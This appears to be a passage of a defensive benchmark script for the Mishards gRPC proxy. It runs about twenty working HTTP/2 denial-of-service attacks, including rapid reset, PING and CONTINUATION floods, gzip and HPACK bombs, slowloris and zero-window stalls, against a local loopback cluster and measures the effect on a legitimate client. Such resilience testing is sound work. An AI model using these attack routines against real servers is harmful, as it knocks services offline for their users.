#!/usr/bin/env python3
"""Attack battery: what HTTP/2 abuse costs a legitimate client of Mishards, per transport.

Starts its own cluster on free 127.0.0.1 ports (one writable and two read-only `milvus_node`
processes on one SQLite meta file, and two proxies in front of them: RPC_TRANSPORT=http2 and
RPC_TRANSPORT=grpcio), loads a small collection, then for each attack and each transport runs
the attacker in a separate process for `--seconds` while a legitimate grpcio client searches
continuously. It prints one markdown table: the legitimate client's p50/p99 and errors during the
attack (and a no-attack baseline measured in the same run), the proxy's CPU seconds and peak RSS
growth (from /proc/<pid>), the read-only nodes' CPU seconds, and how the attacker's connections
ended.

Every attacker loop is bounded in time and in count; every socket is closed at the end; traffic
goes only to 127.0.0.1. A proxy whose RSS passes --rss-abort-mb has its attack stopped early (the
row says so) so that a server without limits cannot take the machine with it.

    python -m bench.attacks                    # every attack, 20 s each, both transports
    python -m bench.attacks --seconds 5 --only rapid_reset_same_write,gzip_bomb
    python -m bench.attacks --transports http2
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import json
import os
import re
import select
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
HOST = "127.0.0.1"
# attackers connect from addresses of their own (all of 127.0.0.0/8 is loopback), as they would in
# life: a server that slows an abusive address must not be measured slowing the legitimate client
# on 127.0.0.1, nor one attack's address carry its probation into the next attack
ATTACKER_SOURCES = [f"127.0.0.{n}" for n in range(2, 250)]
_source = ATTACKER_SOURCES[0]
_attacks_started = 0
SEARCH = "/milvus.grpc.MilvusService/Search"
HAS_COLLECTION = "/milvus.grpc.MilvusService/HasCollection"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 4, 5
ERROR_NAMES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}
DIMENSION = 16
MiB = 1024 * 1024


# ====================================================================== the attacker's side
def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"", length: int | None = None) -> bytes:
    size = len(payload) if length is None else length
    return size.to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def settings(pairs: list[tuple[int, int]] = (), flags: int = 0) -> bytes:
    return frame(SETTINGS, flags, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def grpc_message(message: bytes, compressed: bool = False, declared: int | None = None) -> bytes:
    length = len(message) if declared is None else declared
    return bytes((1 if compressed else 0,)) + length.to_bytes(4, "big") + message


def last_data(stream_id: int, message: bytes) -> bytes:
    """One DATA frame with END_STREAM carrying `message` as one gRPC message."""
    return frame(DATA, END_STREAM, stream_id, grpc_message(message))


def literal(name: bytes, value: bytes) -> bytes:
    """HPACK literal without indexing, new name (no dynamic table state to track)."""
    return b"\x00" + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def request_block(path: str, extra: list[tuple[bytes, bytes]] = ()) -> bytes:
    """:method POST, :scheme http, :path, :authority, content-type, te (+ extra), all literals."""
    block = b"\x83\x86" + hpack_int(4, 4, 0) + hpack_int(len(path), 7, 0) + path.encode()
    block += literal(b":authority", HOST.encode())
    block += literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    for name, value in extra:
        block += literal(name, value)
    return block


def headers_frames(stream_id: int, block: bytes, end_stream: bool, max_frame: int = 16_384) -> bytes:
    """HEADERS (+ CONTINUATION) carrying `block` within the peer's frame size."""
    pieces = [block[i : i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = frame(
        HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if len(pieces) == 1 else 0), stream_id, pieces[0]
    )
    for index, piece in enumerate(pieces[1:], start=2):
        out += frame(CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream_id, piece)
    return out


def search_message(collection: str) -> bytes:
    import numpy as np

    from milvus_grpc import milvus_pb2 as pb

    query = np.random.default_rng(7).random((1, DIMENSION), dtype=np.float32)
    return pb.SearchParam(
        collection_name=collection,
        query_record_array=[pb.RowRecord(float_data=row) for row in query.tolist()],
        topk=10,
        extra_params=[pb.KeyValuePair(key="params", value="{}")],
    ).SerializeToString()


def has_collection_message(collection: str) -> bytes:
    from milvus_grpc import milvus_pb2 as pb

    return pb.CollectionName(collection_name=collection).SerializeToString()


class Conn:
    """One raw HTTP/2 connection of the attacker: non-blocking, writes queued, frames parsed.

    `ended` says how it finished: a GOAWAY (code and debug data) then close, a close or reset
    without GOAWAY, or still open when the attack ended."""

    def __init__(self, port: int, pairs: list[tuple[int, int]] = (), handshake: bool = True, window: int = 0) -> None:
        self.sock = socket.create_connection((HOST, port), timeout=5, source_address=(_source, 0))
        self.sock.setblocking(False)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.out = bytearray()
        self.inbuf = bytearray()
        self.goaway: tuple[int, bytes] | None = None
        self.closed = ""  # "FIN" or "reset" once the server ended it
        self.answers: collections.Counter = collections.Counter()
        self.done_streams: set[int] = set()
        self.window_updates: collections.Counter = collections.Counter()
        self.peer_settings: dict[int, int] = {}
        self.sent: collections.Counter = collections.Counter()  # DATA bytes per stream (flow control)
        self.sent_total = 0
        self.next_stream = 1
        self.handshaken = handshake  # only then are the server's SETTINGS acknowledged
        if handshake:
            opening = PREFACE + settings(list(pairs))
            if window:
                opening += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", window))
            self.queue(opening)
            self.flush()

    # ------------------------------------------------------------------ writing
    def queue(self, data: bytes) -> None:
        self.out += data

    def flush(self) -> bool:
        """Send what the socket takes now; False once the server ended the connection."""
        while self.out and not self.closed:
            try:
                sent = self.sock.send(self.out)
            except BlockingIOError:
                return True
            except (BrokenPipeError, ConnectionResetError, OSError):
                self.closed = self.closed or "reset"
                return False
            del self.out[:sent]
        return not self.closed

    @property
    def blocked(self) -> bool:
        """The server is not taking our bytes (its receive side is paused or full)."""
        return len(self.out) > MiB

    def new_stream(self) -> int:
        stream_id = self.next_stream
        self.next_stream += 2
        return stream_id

    # ------------------------------------------------------------------ reading
    def poll(self, wait: float = 0.0) -> None:
        """Read and parse what arrived (waiting up to `wait` seconds for something)."""
        if self.closed:
            return
        if wait:
            select.select([self.sock], [], [], wait)
        while True:
            try:
                chunk = self.sock.recv(1 << 20)
            except BlockingIOError:
                break
            except (ConnectionResetError, OSError):
                self.closed = "reset"
                break
            if not chunk:
                self.closed = "FIN"
                break
            self.inbuf += chunk
        self._parse()

    def _parse(self) -> None:
        buf = self.inbuf
        position = 0
        while len(buf) - position >= 9:
            length = int.from_bytes(buf[position : position + 3], "big")
            if len(buf) - position < 9 + length:
                break
            kind, flags = buf[position + 3], buf[position + 4]
            stream_id = struct.unpack_from(">I", buf, position + 5)[0] & 0x7FFFFFFF
            payload = bytes(buf[position + 9 : position + 9 + length])
            position += 9 + length
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = (struct.unpack(">I", payload[4:8])[0], payload[8:])
            elif kind == RST_STREAM and len(payload) == 4:
                code = struct.unpack(">I", payload)[0]
                self.answers[f"RST {ERROR_NAMES.get(code, code)}"] += 1
                self.done_streams.add(stream_id)
            elif kind == SETTINGS and not flags & ACK:
                for offset in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack_from(">HI", payload, offset)
                    self.peer_settings[key] = value
                if self.handshaken:
                    self.queue(settings(flags=ACK))
            elif kind == PING and not flags & ACK:
                pass  # an attacker does not owe answers
            elif kind == WINDOW_UPDATE and len(payload) == 4:
                self.window_updates[stream_id] += struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            elif kind == HEADERS:
                status = _grpc_status(payload)
                if status is not None:
                    self.answers[f"grpc-status {status}"] += 1
                if flags & END_STREAM:
                    self.done_streams.add(stream_id)
            elif kind == DATA and flags & END_STREAM:
                self.done_streams.add(stream_id)
        del buf[:position]

    def ended(self) -> str:
        if self.goaway is not None:
            code, debug = self.goaway
            text = f"GOAWAY {ERROR_NAMES.get(code, code)}"
            if debug and code:  # numbers replaced, so that one cause is counted as one
                text += " " + re.sub(r"\d+", "N", debug[:40].decode("latin-1"))
            return text + ("" if self.closed else " (still open)")
        if self.closed:
            return "closed, no GOAWAY" if self.closed == "FIN" else "reset, no GOAWAY"
        return "open at end"

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def _grpc_status(block: bytes) -> int | None:
    """grpc-status from one of our peer's header blocks (a literal: both servers write it so)."""
    marker = block.find(b"grpc-status")
    if marker < 0:
        return None
    length = block[marker + 11] & 0x7F
    value = block[marker + 12 : marker + 12 + length]
    return int(value) if value.isdigit() else None


@dataclass
class Outcome:
    connections: int = 0
    ended: collections.Counter = field(default_factory=collections.Counter)
    answers: collections.Counter = field(default_factory=collections.Counter)
    notes: list[str] = field(default_factory=list)

    def finish(self, conn: Conn) -> None:
        conn.poll()
        self.ended[conn.ended()] += 1
        self.answers.update(conn.answers)
        conn.close()


class Attack:
    """One attacker run: a target port, a deadline, the request bytes it needs."""

    def __init__(self, port: int, seconds: float, collection: str) -> None:
        self.port = port
        self.deadline = time.monotonic() + seconds
        self.search = search_message(collection)
        self.has_collection = has_collection_message(collection)
        self.outcome = Outcome()

    def live(self) -> bool:
        return time.monotonic() < self.deadline

    def connect(self, **kwargs) -> Conn:
        self.outcome.connections += 1
        return Conn(self.port, **kwargs)

    def request(self, conn: Conn, stream_id: int, path: str = SEARCH, message: bytes | None = None) -> bytes:
        body = self.search if message is None else message
        return headers_frames(stream_id, request_block(path), False) + frame(
            DATA, END_STREAM, stream_id, grpc_message(body)
        )

    def repeat_connections(self, one: Callable[[Conn], None], cap: int = 2000, **kwargs) -> None:
        """Open a connection, abuse it until the server ends it (or time is up), again."""
        while self.live() and self.outcome.connections < cap:
            try:
                conn = self.connect(**kwargs)
            except OSError as exc:
                self.outcome.ended[f"connect failed: {exc.__class__.__name__}"] += 1
                time.sleep(0.05)
                continue
            try:
                one(conn)
            finally:
                self.outcome.finish(conn)

    def hold(self, conns: list[Conn], reading: bool = True) -> None:
        """Keep connections until the deadline, noticing which the server closes (poll(): no
        1024-descriptor limit)."""
        poller = select.poll()
        by_fd = {c.sock.fileno(): c for c in conns if not c.closed}
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        while self.live() and by_fd:
            timeout_ms = int(min(0.2, max(self.deadline - time.monotonic(), 0.0)) * 1000)
            for fd, _ in poller.poll(timeout_ms):
                conn = by_fd.get(fd)
                if conn is None:
                    continue
                if reading:
                    conn.poll()
                    conn.flush()
                else:  # only notice the end: peek without consuming
                    try:
                        if not conn.sock.recv(1, socket.MSG_PEEK):
                            conn.closed = "FIN"
                    except BlockingIOError:
                        pass
                    except OSError:
                        conn.closed = "reset"
                if conn.closed:
                    poller.unregister(fd)
                    del by_fd[fd]


# ---------------------------------------------------------------------- the attacks
def window_update_flood(a: Attack) -> None:
    """~1,000 replies wait for stream windows of 0 while connection WINDOW_UPDATEs pour in."""

    def one(conn: Conn) -> None:
        conn.queue(b"".join(a.request(conn, conn.new_stream(), HAS_COLLECTION, a.has_collection) for _ in range(1000)))
        update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000
        while a.live() and conn.flush():
            if not conn.blocked:
                conn.queue(update)
            conn.poll(0.001)

    a.repeat_connections(one, cap=50, pairs=[(INITIAL_WINDOW_SIZE, 0)])


def settings_window_entries(a: Attack) -> None:
    """1,000 half-open streams, then SETTINGS frames of 2,700 INITIAL_WINDOW_SIZE entries each."""
    entries = [(INITIAL_WINDOW_SIZE, 65_535 + (i % 2) * 1000) for i in range(2700)]
    big = settings(entries)

    def one(conn: Conn) -> None:
        conn.queue(b"".join(headers_frames(conn.new_stream(), request_block(SEARCH), False) for _ in range(1000)))
        while a.live() and conn.flush():
            if not conn.blocked:
                conn.queue(big)
            conn.poll(0.002)

    a.repeat_connections(one, cap=200)


def _rapid_reset(a: Attack, same_write: bool) -> None:
    def one(conn: Conn) -> None:
        while a.live() and conn.flush():
            streams = [conn.new_stream() for _ in range(100)]
            requests = b"".join(a.request(conn, s) for s in streams)
            resets = b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in streams)
            if same_write:
                conn.queue(requests + resets)
            else:
                conn.queue(requests)
                conn.flush()
                conn.poll(0.001)
                conn.queue(resets)
            conn.poll()
            if conn.blocked:
                conn.poll(0.01)

    a.repeat_connections(one, cap=2000)


def rapid_reset_same_write(a: Attack) -> None:
    _rapid_reset(a, same_write=True)


def rapid_reset_second_write(a: Attack) -> None:
    _rapid_reset(a, same_write=False)


def ping_flood_no_read(a: Attack) -> None:
    """PINGs as fast as the server takes them; the answers are never read."""
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))

    def one(conn: Conn) -> None:
        while a.live() and conn.flush():
            if not conn.blocked:
                conn.queue(batch)
            else:
                select.select([], [conn.sock], [], 0.01)

    a.repeat_connections(one, cap=2000)


def ping_flood_reading(a: Attack) -> None:
    batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))

    def one(conn: Conn) -> None:
        while a.live() and conn.flush():
            if not conn.blocked:
                conn.queue(batch)
            conn.poll(0.001)

    a.repeat_connections(one, cap=2000)


def settings_flood(a: Attack) -> None:
    batch = settings() * 1000

    def one(conn: Conn) -> None:
        while a.live() and conn.flush():
            if not conn.blocked:
                conn.queue(batch)
            conn.poll(0.001)

    a.repeat_connections(one, cap=2000)


def empty_continuation_flood(a: Attack) -> None:
    batch = frame(CONTINUATION, 0, 1, b"") * 1000

    def one(conn: Conn) -> None:
        conn.queue(frame(HEADERS, 0, 1, b""))
        while a.live() and conn.flush():
            if not conn.blocked:
                conn.queue(batch)
            conn.poll(0.001)

    a.repeat_connections(one, cap=2000)


def partial_16mib_frames(a: Attack) -> None:
    """50 connections at a time, each with a DATA frame announcing 16 MiB - 1 and 64 KiB of it."""
    conns: list[Conn] = []
    payload = b"\0" * 65_536
    while a.live() and a.outcome.connections < 2000:
        while len(conns) < 50 and a.outcome.connections < 2000:
            conn = a.connect()
            conn.queue(headers_frames(1, request_block(SEARCH), False) + frame(DATA, 0, 1, length=2**24 - 1) + payload)
            conn.flush()
            conns.append(conn)
        select.select([c.sock for c in conns], [], [], 0.05)
        for conn in conns[:]:
            conn.poll()
            if conn.closed:
                a.outcome.finish(conn)
                conns.remove(conn)
    for conn in conns:
        a.outcome.finish(conn)


def _many(a: Attack, count: int, handshake: bool) -> None:
    conns = []
    for _ in range(count):
        if not a.live():
            break
        try:
            conn = a.connect(handshake=handshake)
            conn.poll()  # answer the server's SETTINGS if they are there already
            conn.flush()
            conns.append(conn)
        except OSError as exc:
            a.outcome.ended[f"connect failed: {exc.__class__.__name__}"] += 1
    a.hold(conns)
    for conn in conns:
        a.outcome.finish(conn)


def silent_500(a: Attack) -> None:
    """500 connections that never send the preface."""
    _many(a, 500, handshake=False)


def idle_500(a: Attack) -> None:
    """500 connections that finish the handshake, then say nothing."""
    _many(a, 500, handshake=True)


def connections_2000(a: Attack) -> None:
    _many(a, 2000, handshake=True)


@dataclass
class Body:
    """What is left to send of one request body: `data`, or zeros after `head` when None."""

    remaining: int
    data: bytes | None = None
    head: bytes = b""
    offset: int = 0
    end: bool = False  # END_STREAM with the last byte


def _feed(conn: Conn, bodies: dict[int, Body], max_frame: int) -> None:
    """Queue what the server's windows allow of each body (a client that respects flow control)."""
    initial = conn.peer_settings.get(INITIAL_WINDOW_SIZE, 65_535)
    conn_window = 65_535 + conn.window_updates[0] - conn.sent_total
    for stream_id, body in bodies.items():
        if stream_id in conn.done_streams or body.remaining <= 0:
            continue
        stream_window = initial + conn.window_updates[stream_id] - conn.sent[stream_id]
        size = min(body.remaining, stream_window, conn_window, 4 * MiB - len(conn.out))
        if size <= 0:
            continue
        if body.data is not None:
            payload = body.data[body.offset : body.offset + size]
        else:
            head = body.head[body.offset : body.offset + size]
            payload = head + bytes(size - len(head))
        body.offset += size
        body.remaining -= size
        conn.queue(_data_frames(stream_id, payload, max_frame, end=body.end and body.remaining == 0))
        conn.sent[stream_id] += size
        conn.sent_total += size
        conn_window -= size


def _data_frames(stream_id: int, data: bytes, max_frame: int, end: bool) -> bytes:
    pieces = [data[i : i + max_frame] for i in range(0, len(data), max_frame)]
    return b"".join(
        frame(DATA, END_STREAM if end and index == len(pieces) - 1 else 0, stream_id, piece)
        for index, piece in enumerate(pieces)
    )


def big_stream_2gib(a: Attack) -> None:
    """One request stream at a time announcing a 2 GiB message, fed as fast as flow control allows."""

    def one(conn: Conn) -> None:
        conn.poll(0.5)
        max_frame = conn.peer_settings.get(MAX_FRAME_SIZE, 16_384)
        while a.live() and conn.flush():
            stream_id = conn.new_stream()
            conn.queue(headers_frames(stream_id, request_block(SEARCH), False))
            bodies = {stream_id: Body(2**31 + 5, head=grpc_message(b"", declared=2**31))}
            while a.live() and conn.flush() and stream_id not in conn.done_streams and bodies[stream_id].remaining:
                _feed(conn, bodies, max_frame)
                conn.flush()
                conn.poll(0.002)

    a.repeat_connections(one, cap=100, window=2**30)


_BOMB: bytes | None = None


def gzip_bomb_bytes() -> bytes:
    """1 GiB of zeros, gzip-compressed (~1 MB); made once, kept next to this file's cache."""
    global _BOMB
    cached = Path(tempfile.gettempdir()) / "mishards-attacks-gzip-bomb-1gib.gz"
    if _BOMB is None and cached.is_file():
        _BOMB = cached.read_bytes()
    if _BOMB is None:
        compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        chunk = bytes(16 * MiB)
        parts = [compressor.compress(chunk) for _ in range(64)]
        parts.append(compressor.flush())
        _BOMB = b"".join(parts)
        partial = cached.with_suffix(f".{os.getpid()}")
        partial.write_bytes(_BOMB)
        partial.replace(cached)
    return _BOMB


def gzip_bomb(a: Attack) -> None:
    """One compressed request at a time: ~1 MB on the wire, 1 GiB once inflated."""
    bomb = grpc_message(gzip_bomb_bytes(), compressed=True)
    block = request_block(SEARCH, [(b"grpc-encoding", b"gzip")])

    def one(conn: Conn) -> None:
        conn.poll(0.5)
        max_frame = conn.peer_settings.get(MAX_FRAME_SIZE, 16_384)
        while a.live() and conn.flush():
            stream_id = conn.new_stream()
            conn.queue(headers_frames(stream_id, block, False, max_frame))
            bodies = {stream_id: Body(len(bomb), data=bomb, end=True)}
            give_up = time.monotonic() + 15  # one bomb at a time: wait for its answer (bounded)
            while a.live() and conn.flush() and stream_id not in conn.done_streams and time.monotonic() < give_up:
                _feed(conn, bodies, max_frame)
                conn.flush()
                conn.poll(0.005)

    a.repeat_connections(one, cap=100, window=2**30)


def unfinished_bodies(a: Attack) -> None:
    """16 streams announcing 64 MiB messages, sent as far as the windows allow, never finished."""

    def one(conn: Conn) -> None:
        conn.poll(0.5)
        max_frame = conn.peer_settings.get(MAX_FRAME_SIZE, 16_384)
        bodies = {}
        for _ in range(16):
            stream_id = conn.new_stream()
            conn.queue(headers_frames(stream_id, request_block(SEARCH), False))
            bodies[stream_id] = Body(64 * MiB + 4, head=grpc_message(b"", declared=64 * MiB))  # 1 byte short
        while a.live() and conn.flush():
            _feed(conn, bodies, max_frame)
            conn.flush()
            conn.poll(0.005)

    a.repeat_connections(one, cap=50, window=2**30)


def header_70kb(a: Attack) -> None:
    """Requests with a 70 KB header value, ten in flight at a time."""
    block = request_block(SEARCH, [(b"x-padding", b"p" * 70_000)])

    def one(conn: Conn) -> None:
        conn.poll(0.2)
        max_frame = conn.peer_settings.get(MAX_FRAME_SIZE, 16_384)
        in_flight: list[int] = []
        while a.live() and conn.flush():
            while len(in_flight) < 10:
                stream_id = conn.new_stream()
                conn.queue(headers_frames(stream_id, block, False, max_frame) + last_data(stream_id, a.search))
                in_flight.append(stream_id)
            conn.flush()
            conn.poll(0.01)
            in_flight = [s for s in in_flight if s not in conn.done_streams]

    a.repeat_connections(one, cap=500, window=2**30)


def slowloris(a: Attack) -> None:
    """100 connections, each trickling one byte of a request every ~0.5 s."""
    conns: list[Conn] = []
    for _ in range(100):
        conn = a.connect(handshake=False)
        conn.pending = PREFACE + settings() + a.request(conn, 1)
        conns.append(conn)
    while a.live():
        for conn in conns:
            if conn.pending and not conn.closed:
                conn.queue(conn.pending[:1])
                conn.pending = conn.pending[1:]
                conn.flush()
            conn.poll()
        time.sleep(min(0.5, max(a.deadline - time.monotonic(), 0)))
    for conn in conns:
        a.outcome.finish(conn)


def zero_window_reader(a: Attack) -> None:
    """1,000 searches with every window at 0: the replies can never be sent."""
    conns = []
    for _ in range(4):
        conn = a.connect(pairs=[(INITIAL_WINDOW_SIZE, 0)])
        conn.queue(b"".join(a.request(conn, conn.new_stream()) for _ in range(250)))
        conn.flush()
        conns.append(conn)
    a.hold(conns)
    for conn in conns:
        a.outcome.finish(conn)


def hpack_bomb(a: Attack) -> None:
    """A 4 KB field put in the dynamic table, then referenced 1,000 times in one block (4 MB decoded)."""
    name, value = b"x-bomb", b"b" * 4000
    entry = b"\x40" + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value
    block = request_block(SEARCH) + entry + b"\xbe" * 1000

    def one(conn: Conn) -> None:
        stream_id = 1
        while a.live() and conn.flush():
            conn.queue(headers_frames(stream_id, block, False) + last_data(stream_id, a.search))
            stream_id += 2
            conn.flush()
            conn.poll(0.01)

    a.repeat_connections(one, cap=2000)


def garbage_after_preface(a: Attack) -> None:
    """The preface and SETTINGS, then 64 KiB of random bytes; a connection the server has not
    ended within 1 s is given up (random bytes may announce a frame it waits to read)."""

    def one(conn: Conn) -> None:
        conn.queue(os.urandom(65_536))
        give_up = time.monotonic() + 1.0
        while a.live() and conn.flush() and not conn.closed and time.monotonic() < give_up:
            conn.poll(0.05)

    a.repeat_connections(one, cap=2000)


def partial_max_frames(a: Attack) -> None:
    """400 connections, each with a frame header announcing 64 KiB (the own server's
    SETTINGS_MAX_FRAME_SIZE) and half of it, then silence: what waiting for the rest holds."""
    conns = []
    size = 64 * 1024
    payload = bytes(size // 2)
    for _ in range(400):
        if not a.live():
            break
        conn = a.connect()
        conn.queue(frame(0xFA, 0, 0, length=size) + payload)  # an extension frame type: ignorable once read
        conns.append(conn)
    while a.live() and any(c.out and not c.closed for c in conns):
        for conn in conns:
            conn.flush()
        time.sleep(0.01)
    a.hold(conns)
    for conn in conns:
        a.outcome.finish(conn)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    "window_update_flood": window_update_flood,
    "settings_window_entries": settings_window_entries,
    "rapid_reset_same_write": rapid_reset_same_write,
    "rapid_reset_second_write": rapid_reset_second_write,
    "ping_flood_no_read": ping_flood_no_read,
    "ping_flood_reading": ping_flood_reading,
    "settings_flood": settings_flood,
    "empty_continuation_flood": empty_continuation_flood,
    "partial_16mib_frames": partial_16mib_frames,
    "partial_max_frames": partial_max_frames,
    "silent_500": silent_500,
    "idle_500": idle_500,
    "big_stream_2gib": big_stream_2gib,
    "gzip_bomb": gzip_bomb,
    "unfinished_bodies": unfinished_bodies,
    "header_70kb": header_70kb,
    "slowloris": slowloris,
    "connections_2000": connections_2000,
    "zero_window_reader": zero_window_reader,
    "hpack_bomb": hpack_bomb,
    "garbage_after_preface": garbage_after_preface,
}


def attacker_main(name: str, port: int, seconds: float, collection: str) -> None:
    """Run one attack in this process; print its Outcome as one JSON line."""
    if name == "gzip_bomb":
        gzip_bomb_bytes()  # made before the clock starts
    attack = Attack(port, seconds, collection)
    try:
        ATTACKS[name](attack)
    except Exception as exc:  # noqa: BLE001 - reported in the table, not a traceback
        attack.outcome.notes.append(f"attacker error: {exc.__class__.__name__}: {exc}")
    out = attack.outcome
    print(json.dumps({"connections": out.connections, "ended": out.ended, "answers": out.answers, "notes": out.notes}))


# ====================================================================== the cluster and the measurements
def proc_cpu_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def proc_rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


@dataclass
class Cluster:
    """Three nodes and one proxy per transport, on free ports under a temporary directory."""

    data_dir: Path
    proxies: dict[str, object]  # transport -> ManagedProcess
    ports: dict[str, int]
    readonly: list[object]
    processes: list[object]
    collection: str = "attacked"


@contextlib.contextmanager
def cluster(transports: list[str], limits: dict[str, str] | None = None, rows: int = 2000) -> Iterator[Cluster]:
    from tests.support.processes import ManagedProcess, cmd_version_probe, free_port

    data_dir = Path(tempfile.mkdtemp(prefix="mishards-attacks-"))
    meta_uri = f"sqlite:///{data_dir / 'db' / 'meta.sqlite'}"
    (data_dir / "db").mkdir(parents=True)
    started: list = []

    def start(name: str, argv: list[str], port: int, env: dict[str, str] | None = None):
        proc = ManagedProcess(
            name,
            argv,
            cmd_version_probe(f"{HOST}:{port}"),
            log_path=data_dir / "logs" / f"{name}.log",
            env=env,
            start_timeout_s=60,
        )
        started.append(proc)
        proc.start()
        return proc

    def node(name: str, role: str, port: int):
        argv = [sys.executable, "-m", "milvus_node", "--role", role, "--port", str(port), "--host", HOST]
        argv += ["--meta-uri", meta_uri, "--data-dir", str(data_dir)]
        return start(name, argv, port)

    try:
        wo_port = free_port()
        ro_ports = [free_port(), free_port()]
        node("writable", "writable", wo_port)
        readonly = [node(f"readonly-{i}", "readonly", port) for i, port in enumerate(ro_ports, start=1)]
        proxies, ports = {}, {}
        for transport in transports:
            port = free_port()
            env = dict(
                os.environ,
                WOSERVER=f"tcp://{HOST}:{wo_port}",
                SQLALCHEMY_DATABASE_URI=meta_uri,
                DISCOVERY_CLASS_NAME="static",
                DISCOVERY_STATIC_HOSTS=",".join(f"{HOST}:{p}" for p in ro_ports),
                SERVER_HOST=HOST,
                SERVER_PORT=str(port),
                LOG_PATH=str(data_dir / "logs"),
                LOG_NAME=f"mishards-{transport}",
                LOG_LEVEL="WARNING",
                METRICS_PORT="0",
                RPC_TRANSPORT=transport,
                **(limits or {}),
            )
            proxies[transport] = start(f"mishards-{transport}", [sys.executable, "-m", "mishards"], port, env)
            ports[transport] = port
        result = Cluster(data_dir, proxies, ports, readonly, started)
        load_collection(f"{HOST}:{ports[transports[0]]}", result.collection, rows)
        yield result
    finally:
        for proc in reversed(started):
            with contextlib.suppress(Exception):
                proc.stop(timeout_s=10)
        shutil.rmtree(data_dir, ignore_errors=True)


def load_collection(address: str, collection: str, rows: int) -> None:
    """A small L2 collection, flushed, searchable through the proxy (bounded wait)."""
    import numpy as np

    from milvus_grpc import milvus_pb2 as pb
    from tests.support.stubs import milvus_stub, records, search_param

    vectors = np.random.default_rng(1).random((rows, DIMENSION), dtype=np.float32)
    with milvus_stub(address) as stub:
        status = stub.CreateCollection(
            pb.CollectionSchema(collection_name=collection, dimension=DIMENSION, index_file_size=1, metric_type=1),
            timeout=30,
        )
        assert status.error_code == 0, status
        for start in range(0, rows, 1000):
            reply = stub.Insert(
                pb.InsertParam(collection_name=collection, row_record_array=records(vectors[start : start + 1000])),
                timeout=30,
            )
            assert reply.status.error_code == 0, reply.status
        assert stub.Flush(pb.FlushParam(collection_name_array=[collection]), timeout=60).error_code == 0
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            reply = stub.Search(search_param(collection, vectors[:1], 10), timeout=10)
            if reply.status.error_code == 0 and reply.row_num == 1 and reply.ids and reply.distances[0] < 1e-4:
                return
            time.sleep(0.2)
        raise RuntimeError(f"the collection never became searchable: {reply.status}")


class LegitClient:
    """A grpcio client searching continuously (one call in flight, 5 s deadline each)."""

    def __init__(self, address: str, collection: str) -> None:
        import numpy as np

        from tests.support.stubs import search_param

        self.address = address
        self.request = search_param(collection, np.random.default_rng(3).random((1, DIMENSION), dtype=np.float32), 10)
        self.latencies: list[float] = []
        self.errors: collections.Counter = collections.Counter()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        import grpc

        from tests.support.stubs import milvus_stub

        with milvus_stub(self.address) as stub:
            while not self._stop.is_set():
                start = time.perf_counter()
                try:
                    reply = stub.Search(self.request, timeout=5)
                except grpc.RpcError as exc:
                    self.errors[exc.code().name] += 1
                    self._stop.wait(0.05)
                    continue
                if reply.status.error_code != 0 or reply.row_num != 1:
                    self.errors[f"status {reply.status.error_code}"] += 1
                    continue
                self.latencies.append(time.perf_counter() - start)

    def __enter__(self) -> LegitClient:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(10)

    def percentile(self, q: float) -> float:
        if not self.latencies:
            return float("nan")
        ordered = sorted(self.latencies)
        return ordered[min(int(q * len(ordered)), len(ordered) - 1)] * 1000


def settle(pid: int, within: float = 15.0) -> None:
    """Wait (bounded) until the proxy is nearly idle, so one attack's leftovers (work still queued
    after its attacker left) are not counted against the next."""
    deadline = time.monotonic() + within
